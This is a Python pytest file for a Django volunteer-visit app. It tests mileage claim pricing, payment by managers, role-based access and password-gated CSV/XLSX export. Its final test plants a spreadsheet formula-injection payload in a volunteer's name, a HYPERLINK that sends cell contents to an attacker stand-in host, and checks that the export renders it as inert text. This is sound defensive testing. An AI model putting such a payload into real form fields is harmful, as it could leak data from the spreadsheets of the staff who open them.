"""Mileage claims: priced at the rate in force on the visit date, paid by a manager."""

import datetime

import pytest
from django.core import mail
from django.core.exceptions import ValidationError
from django.urls import reverse
from django.utils import timezone

from families import mileage, services
from families.models import MileageRate, Visit
from tests.exports import csv_rows, xlsx_rows
from tests.factories import PASSWORD
from vicp.models import AuditEvent

pytestmark = pytest.mark.django_db
CLAIMS = reverse("families:claims")


def log(match, miles, days_ago=0):
    return services.log_visit(
        match=match,
        by=match.volunteer.user,
        visited_on=timezone.localdate() - datetime.timedelta(days=days_ago),
        duration_minutes=60,
        engagement=3,
        miles=miles,
    )


def test_the_default_rate_is_45p_a_mile(match):
    assert mileage.claim_amount_pence(log(match, 10)) == 450


def test_the_rate_in_force_on_the_visit_date_is_used(match, cambridgeshire):
    change = timezone.localdate() - datetime.timedelta(days=3)
    MileageRate.objects.create(project=cambridgeshire, pence_per_mile=50, valid_from=change)
    before = log(match, 10, days_ago=4)
    on_the_day = log(match, 10, days_ago=3)
    assert mileage.claim_amount_pence(before) == 450  # the default still applied then
    assert mileage.claim_amount_pence(on_the_day) == 500


def test_no_claim_without_miles(match):
    assert mileage.claim_amount_pence(log(match, None)) is None
    assert not services.unpaid_claims(match.started_by).exists()


def test_a_manager_pays_claims_and_the_volunteer_is_told(
    client_for, match, alice, django_capture_on_commit_callbacks
):
    first, second = log(match, 10), log(match, 4, days_ago=1)
    client = client_for(alice)
    page = client.get(CLAIMS)
    assert [c.pk for c in page.context["claims"]] == [second.pk, first.pk]
    assert page.context["total_pence"] == 630
    with django_capture_on_commit_callbacks(execute=True):
        client.post(CLAIMS, {"claim": [first.pk, second.pk]})
    assert not services.unpaid_claims(alice).exists()
    assert Visit.objects.get(pk=first.pk).claim_paid_by == alice
    (message,) = [m for m in mail.outbox if m.subject == "Your mileage has been paid"]
    assert message.to == ["val@example.org"] and "£6.30" in message.body


def test_a_claim_cannot_be_paid_twice_or_by_another_project(match, alice, charlie):
    claim = log(match, 5)
    with pytest.raises(ValidationError):
        services.mark_claims_paid([claim], by=charlie)
    services.mark_claims_paid([claim], by=alice)
    with pytest.raises(ValidationError, match="already paid"):
        services.mark_claims_paid([claim], by=alice)


@pytest.mark.parametrize("who", ["sam", "charlie_sees_none", "volunteer"])
def test_volunteers_and_social_workers_never_see_the_claims(client_for, cast, match, who):
    log(match, 5)
    if who == "volunteer":
        assert client_for(match.volunteer.user).get(CLAIMS).status_code == 404
    elif who == "sam":
        assert client_for(cast["sam"]).get(CLAIMS).status_code == 404
    else:
        assert list(client_for(cast["charlie"]).get(CLAIMS).context["claims"]) == []


def confirmed(client, url):
    client.post(reverse("vicp:confirm_password"), {"password": PASSWORD, "next": url})
    return client


def test_the_csv_needs_the_password_again(client_for, match, alice):
    log(match, 10)
    client = client_for(alice)
    csv_url = reverse("families:claims_export", args=["csv"])
    for fmt in ("csv", "xlsx"):
        response = client.get(reverse("families:claims_export", args=[fmt]))
        assert response["Location"].startswith(reverse("vicp:confirm_password"))
    assert not AuditEvent.objects.filter(action="claims.exported").exists()
    rows = csv_rows(confirmed(client, csv_url).get(csv_url))
    assert rows[0][0] == "volunteer"
    assert rows[1][4:6] == ["10", "4.50"]


def test_the_volunteer_sees_their_own_claim_on_the_visit(client_for, match):
    visit = log(match, 10)
    page = client_for(match.volunteer.user).get(reverse("families:visit_detail", args=[visit.pk]))
    assert "£4.50 · not paid yet" in page.content.decode()


def test_a_formula_typed_as_a_name_reaches_the_csv_as_text(client_for, match, alice):
    """The volunteer's name comes from the public application form: anyone can type it."""
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    volunteer = match.volunteer
    volunteer.first_name, volunteer.last_name = formula, "@SUM(A1)"
    volunteer.save()
    log(match, 10)
    client = client_for(alice)
    csv_url = reverse("families:claims_export", args=["csv"])
    rows = csv_rows(confirmed(client, csv_url).get(csv_url))
    assert rows[1][0] == f"'{formula} @SUM(A1)"
    assert rows[1][4:6] == ["10", "4.50"]
    # The same in the spreadsheet: a text cell, never a formula; the amount a number.
    xlsx = xlsx_rows(client.get(reverse("families:claims_export", args=["xlsx"])))
    assert xlsx[1][0] == f"'{formula} @SUM(A1)"
    assert xlsx[1][4:6] == [10, 4.5]
